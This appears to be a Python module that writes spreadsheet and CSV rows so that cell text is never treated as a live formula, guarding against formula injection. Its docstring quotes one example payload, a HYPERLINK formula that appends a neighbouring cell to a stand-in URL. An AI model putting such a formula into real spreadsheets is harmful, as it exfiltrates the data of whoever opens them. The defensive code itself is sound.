"""Cells of every spreadsheet and CSV file the app writes: clean text, never a live formula.

A system name typed as ``=HYPERLINK("http://x/?"&A1,"x")`` must reach Excel as that text, not as
a link that sends the neighbouring cells away; a vertical tab pasted from Word must not make
openpyxl refuse the whole workbook. Every XLSX row goes through ``append_row`` and every CSV row
through ``csv_row``.
"""
from __future__ import annotations

import io
from collections.abc import Iterable
from typing import Any


from ir_app.domain.text import clean_text, defuse_formula, looks_like_formula


def cell_value(value: Any) -> Any:
    """A value openpyxl can write: strings cleaned of control characters, others unchanged."""
    return clean_text(value) if isinstance(value, str) else value


def append_row(sheet, values: Iterable[Any]) -> None:
    """Append one row; a text cell that looks like a formula is kept as text.

    The cell stays a string with the ``quotePrefix`` style (what Excel and LibreOffice set when
    a user types an apostrophe first): shown exactly as stored, and still text after an edit."""
    row = [cell_value(value) for value in values]
    sheet.append(row)
    if not row:
        return
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and looks_like_formula(cell.value):
            cell.data_type = "s"
            cell.quotePrefix = True


def csv_row(values: Iterable[Any]) -> list[Any]:
    """One CSV row: CSV has no cell types, so a formula trigger gets a leading apostrophe."""
    return [defuse_formula(clean_text(value)) if isinstance(value, str) else value for value in values]


def register_workbook(title: str, headers: Iterable[str], widths: Iterable[int], rows: Iterable[Iterable[Any]]
                      ) -> bytes:
    """One-sheet XLSX of a register (measures, risks): a bold, shaded, frozen header row with set
    column widths, then the rows, every text cell kept as text (never "f", whatever it starts with)."""
    from openpyxl import Workbook  # openpyxl: loaded by the first spreadsheet, not by every worker
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title
    append_row(sheet, headers)
    for index, width in enumerate(widths, start=1):
        cell = sheet.cell(row=1, column=index)
        cell.font, cell.fill = Font(bold=True), PatternFill("solid", fgColor="DDEBF7")
        cell.alignment = Alignment(wrap_text=True, vertical="top")
        sheet.column_dimensions[get_column_letter(index)].width = width
    sheet.freeze_panes = "A2"
    for row in rows:
        append_row(sheet, row)  # formula-like text stays text, control characters go
    for cells in sheet.iter_rows(min_row=2):
        for cell in cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
